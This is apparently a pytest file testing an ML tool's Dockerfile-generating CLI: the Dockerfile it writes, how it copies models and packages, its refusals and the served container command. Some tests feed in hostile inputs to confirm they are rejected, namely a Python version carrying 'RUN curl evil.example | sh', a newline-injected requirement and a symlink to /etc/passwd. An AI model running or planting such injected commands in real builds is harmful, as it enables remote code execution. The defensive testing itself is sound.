"""`mltrail models generate-dockerfile`: the build context it writes (Dockerfile,
requirements, an identical and checked model copy), its refusals, and the image's
command run here (Docker cannot run in the tests: the command can)."""

from __future__ import annotations

import filecmp
import json
import shutil
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
import yaml
from click.testing import CliRunner, Result

import mltrail
import mltrail.pyfunc
import mltrail.sklearn
from mltrail.cli import build_cli
from mltrail.models import infer_signature
from mltrail.serving.docker import IMAGE_MODEL, PORT, SERVE_COMMAND, dockerfile_text
from mltrail.store import FileStore
from tests.serving.servers import ServeProcess, free_port, send

sklearn_linear = pytest.importorskip("sklearn.linear_model")
COLUMNS = ["a", "b", "c"]
PYTHON = f"{sys.version_info.major}.{sys.version_info.minor}.{sys.version_info.micro}"


def _frame(rows: int, seed: int = 0) -> pd.DataFrame:
    return pd.DataFrame(np.random.default_rng(seed).normal(size=(rows, 3)), columns=COLUMNS)


@pytest.fixture(scope="module")
def model_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    frame = _frame(40)
    clf = sklearn_linear.LinearRegression().fit(frame, frame["a"] - 2 * frame["c"])
    path = tmp_path_factory.mktemp("docker") / "model"
    signature = infer_signature(frame, clf.predict(frame))
    mltrail.sklearn.save_model(clf, path, signature=signature, input_example=frame.head(2))
    return path


def _generate(*args: str) -> Result:
    return CliRunner().invoke(build_cli(), ["models", "generate-dockerfile", *args])


def instructions(dockerfile: Path) -> list[tuple[str, str]]:
    """``(INSTRUCTION, arguments)`` of each line, as Docker reads them (no continuations
    are written, so one instruction is one line; comments and blank lines are skipped)."""
    found = []
    for line in dockerfile.read_text().splitlines():
        if line.strip() and not line.lstrip().startswith("#"):
            word, _, rest = line.strip().partition(" ")
            found.append((word.upper(), rest.strip()))
    return found


def _same_tree(a: Path, b: Path) -> bool:
    files = sorted(p.relative_to(a) for p in a.rglob("*") if p.is_file())
    copied = sorted(p.relative_to(b) for p in b.rglob("*") if p.is_file())
    match, mismatch, errors = filecmp.cmpfiles(a, b, [str(f) for f in files], shallow=False)
    return files == copied and not mismatch and not errors and len(match) == len(files)


# --- what is written --------------------------------------------------------------------


def test_the_folder_holds_a_dockerfile_the_requirements_and_the_model(
    model_dir: Path, tmp_path: Path
) -> None:
    out = tmp_path / "image"
    result = _generate("-m", str(model_dir), "-d", str(out))
    assert result.exit_code == 0, result.output
    assert f"python:{PYTHON}-slim" in result.output and "docker build" in result.output
    assert sorted(p.name for p in out.iterdir()) == ["Dockerfile", "model", "requirements.txt"]
    assert _same_tree(model_dir, out / "model")
    assert instructions(out / "Dockerfile") == [
        ("FROM", f"python:{PYTHON}-slim"),
        ("ENV", "PIP_NO_CACHE_DIR=1 PIP_DISABLE_PIP_VERSION_CHECK=1 PYTHONDONTWRITEBYTECODE=1"),
        ("WORKDIR", "/opt/ml"),
        ("COPY", "model model"),
        ("COPY", "requirements.txt requirements.txt"),
        ("RUN", "pip install -r requirements.txt"),
        ("EXPOSE", "8080"),
        ("ENTRYPOINT", json.dumps(list(SERVE_COMMAND))),
    ]
    assert " ".join(SERVE_COMMAND) == "mltrail models serve -m /opt/ml/model -h 0.0.0.0 -p 8080"
    lines = (out / "requirements.txt").read_text().splitlines()
    assert [ln for ln in lines if not ln.startswith("#")] == [
        "-r model/requirements.txt",
        f"mltrail=={mltrail.__version__}",
    ]
    # The folder mirrors /opt/ml: the nested file is found from requirements.txt's folder.
    assert any(r.startswith("scikit-learn==") for r in (out / "model/requirements.txt").open())


def test_registry_and_run_uris_are_resolved_in_the_store(
    model_dir: Path, tracking: FileStore, tmp_path: Path
) -> None:
    with mltrail.start_run():
        info = mltrail.sklearn.log_model(
            mltrail.sklearn.load_model(str(model_dir)), name="model", input_example=_frame(2)
        )
    mltrail.register_model(info.model_uri, "scorer")
    mltrail.MlflowClient().set_registered_model_alias("scorer", "champion", "1")
    for i, uri in enumerate(("models:/scorer/1", "models:/scorer@champion", info.model_uri)):
        out = tmp_path / f"out{i}"
        result = _generate("--store", str(tracking.root), "-m", uri, "-d", str(out))
        assert result.exit_code == 0, result.output
        expected = mltrail.pyfunc.load_model(uri).metadata.file_hashes
        assert mltrail.pyfunc.load_model(out / "model").metadata.file_hashes == expected


def test_a_local_wheel_or_source_folder_is_copied_into_the_folder(
    model_dir: Path, tmp_path: Path
) -> None:
    wheel = tmp_path / "dist" / "mltrail-0.1.0-py3-none-any.whl"
    wheel.parent.mkdir()
    wheel.write_bytes(b"PK not really a wheel")
    out = tmp_path / "with-wheel"
    result = _generate("-m", str(model_dir), "-d", str(out), "--mltrail-requirement", str(wheel))
    assert result.exit_code == 0, result.output
    assert (out / "mltrail_pkg" / wheel.name).read_bytes() == wheel.read_bytes()
    assert "./mltrail_pkg/mltrail-0.1.0-py3-none-any.whl" in (out / "requirements.txt").read_text()
    assert ("COPY", "mltrail_pkg mltrail_pkg") in instructions(out / "Dockerfile")
    # A source folder: copied without its git folder, caches, or the output folder inside it.
    source = tmp_path / "src"
    (source / "mltrail").mkdir(parents=True)
    (source / "pyproject.toml").write_text("[project]\nname = 'mltrail'\n")
    (source / ".git").mkdir()
    (source / "mltrail" / "__pycache__").mkdir()
    inside = source / "image"
    result = _generate(
        "-m", str(model_dir), "-d", str(inside), "--mltrail-requirement", str(source)
    )
    assert result.exit_code == 0, result.output
    copied = sorted(
        str(p.relative_to(inside / "mltrail_pkg")) for p in (inside / "mltrail_pkg").rglob("*")
    )
    assert copied == ["mltrail", "pyproject.toml"]
    assert "./mltrail_pkg\n" in (inside / "requirements.txt").read_text()
    # A pip requirement is written as it is.
    url = "git+https://example.org/mltrail.git@v0.1.0"
    out = tmp_path / "with-url"
    assert (
        _generate("-m", str(model_dir), "-d", str(out), "--mltrail-requirement", url).exit_code == 0
    )
    assert (out / "requirements.txt").read_text().splitlines()[-1] == url
    assert not (out / "mltrail_pkg").exists()


def test_the_base_image_follows_the_models_python(model_dir: Path, tmp_path: Path) -> None:
    model = tmp_path / "model"

    def with_python(value: Any) -> Result:
        shutil.rmtree(model, ignore_errors=True)
        shutil.copytree(model_dir, model)
        env = model / "python_env.yaml"
        data = yaml.safe_load(env.read_text())
        if value is None:
            env.unlink()
        else:
            data["python"] = value
            env.write_text(yaml.safe_dump(data))
        _forget_hashes(model)
        conf = yaml.safe_load((model / "MLmodel").read_text())
        conf["flavors"]["python_function"].pop("python_version", None)
        (model / "MLmodel").write_text(yaml.safe_dump(conf))
        return _generate("-m", str(model), "-d", str(tmp_path / "out"), "--force")

    assert with_python("3.12.4").exit_code == 0
    assert instructions(tmp_path / "out" / "Dockerfile")[0] == ("FROM", "python:3.12.4-slim")
    assert with_python("3.9").exit_code == 0  # mltrail needs 3.11: the image uses it (warned)
    assert instructions(tmp_path / "out" / "Dockerfile")[0] == ("FROM", "python:3.11-slim")
    assert with_python(None).exit_code == 0  # nothing recorded: this interpreter's version
    here = f"python:{sys.version_info.major}.{sys.version_info.minor}-slim"
    assert instructions(tmp_path / "out" / "Dockerfile")[0] == ("FROM", here)
    hostile = with_python("3.11\nRUN curl evil.example | sh")
    assert hostile.exit_code == 2 and "is not a version" in hostile.output
    assert "RUN curl" not in (tmp_path / "out" / "Dockerfile").read_text()


def _forget_hashes(model: Path) -> None:
    """Drop the recorded file hashes (what the integrity error tells a user to do)."""
    conf = yaml.safe_load((model / "MLmodel").read_text())
    conf.get("mltrail", {}).pop("file_hashes", None)
    (model / "MLmodel").write_text(yaml.safe_dump(conf))


# --- refusals -----------------------------------------------------------------------


def _listing(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*"))


def _one_line_error(result: Result, code: int, *words: str) -> None:
    assert result.exit_code == code, result.output
    assert result.output.startswith("Error: ") and result.output.count("\n") == 1, result.output
    assert "Traceback" not in result.output
    for word in words:
        assert word in result.output


def test_bad_inputs_are_one_line_errors_that_leave_nothing(
    model_dir: Path, tracking: FileStore, tmp_path: Path
) -> None:
    work = tmp_path / "work"
    work.mkdir()
    a_file = work / "file"
    a_file.write_text("x")
    out = str(work / "out")
    store = ["--store", str(tracking.root)]
    before = _listing(tmp_path)
    _one_line_error(_generate(*store, "-m", str(tmp_path / "nothing"), "-d", out), 2, "nothing")
    _one_line_error(_generate(*store, "-m", "models:/unknown/1", "-d", out), 2, "unknown")
    nested = str(work / "new" / "deeper" / "out")  # parents made for it are removed again
    _one_line_error(_generate(*store, "-m", "models:/unknown/1", "-d", nested), 2, "unknown")
    _one_line_error(_generate(*store, "-m", "s3://bucket/model", "-d", out), 2, "s3://")
    _one_line_error(_generate(*store, "-m", "runs:/", "-d", out), 2, "runs:/")
    newline = ["--mltrail-requirement", "mltrail\nRUN x"]
    _one_line_error(_generate("-m", str(model_dir), "-d", out, *newline), 2, "not one line")
    _one_line_error(_generate("-m", str(model_dir), "-d", str(a_file / "out")), 1, str(a_file))
    missing = _generate("-d", out)
    assert missing.exit_code == 2 and "--model-uri" in missing.output  # click's usage error
    assert _listing(tmp_path) == before


def test_a_changed_or_unservable_model_is_refused(model_dir: Path, tmp_path: Path) -> None:
    changed = tmp_path / "changed"
    shutil.copytree(model_dir, changed)
    with open(changed / "model.skops", "ab") as f:
        f.write(b"\0")
    out = tmp_path / "out"
    _one_line_error(_generate("-m", str(changed), "-d", str(out)), 1, "model.skops", "hashes")
    alien = tmp_path / "alien"
    shutil.copytree(model_dir, alien)
    conf = yaml.safe_load((alien / "MLmodel").read_text())
    conf["flavors"]["python_function"]["loader_module"] = "os"
    (alien / "MLmodel").write_text(yaml.safe_dump(conf))
    _one_line_error(_generate("-m", str(alien), "-d", str(out)), 2, "'os'", "cannot serve")
    linked = tmp_path / "linked"
    shutil.copytree(model_dir, linked)
    (linked / "extra").symlink_to("/etc/passwd")
    _one_line_error(_generate("-m", str(linked), "-d", str(out)), 1, "symbolic link")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["alien", "changed", "linked"]


def test_an_existing_folder_is_kept_unless_force(model_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    assert _generate("-m", str(model_dir), "-d", str(out)).exit_code == 0  # empty: used
    (out / "mine.txt").write_text("keep")
    kept = _generate("-m", str(model_dir), "-d", str(out))
    _one_line_error(kept, 2, "not empty", "--force")
    assert (out / "mine.txt").read_text() == "keep"
    assert _generate("-m", str(model_dir), "-d", str(out), "--force").exit_code == 0
    assert not (out / "mine.txt").exists() and (out / "Dockerfile").is_file()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]  # no temporary folder left


def test_the_dockerfile_text_has_no_local_package_step_without_one() -> None:
    assert "mltrail_pkg" not in dockerfile_text("python:3.11-slim", local_package=False)
    assert "COPY mltrail_pkg mltrail_pkg" in dockerfile_text("python:3.11-slim", True)


# --- the image's command, run here ---------------------------------------------------


@pytest.fixture
def served(model_dir: Path, tmp_path: Path) -> Iterator[tuple[int, Path]]:
    """The Dockerfile's ENTRYPOINT, run on the copied model, on 127.0.0.1 and a free port."""
    out = tmp_path / "image"
    assert _generate("-m", str(model_dir), "-d", str(out)).exit_code == 0
    entry = dict(instructions(out / "Dockerfile"))["ENTRYPOINT"]
    port = free_port()
    here = {IMAGE_MODEL: str(out / "model"), "0.0.0.0": "127.0.0.1", str(PORT): str(port)}
    command = [here.get(word, word) for word in json.loads(entry)]
    assert command[0] == "mltrail"
    command[0] = str(Path(sys.executable).with_name("mltrail"))  # this environment's script
    with ServeProcess.command_line(command, port, cwd=out) as server:
        server.wait_ready(90)
        yield port, out / "model"


def test_the_images_command_serves_the_copied_model(served: tuple[int, Path]) -> None:
    port, model = served
    assert send(port, "GET", "/ping")[0] == 200
    example = (model / "serving_input_example.json").read_bytes()
    status, body, _ = send(port, "POST", "/invocations", example)
    assert status == 200, body
    frame = pd.DataFrame(**json.loads(example)["dataframe_split"])
    expected = mltrail.pyfunc.load_model(model).predict(frame).tolist()
    assert body["predictions"] == pytest.approx(expected)
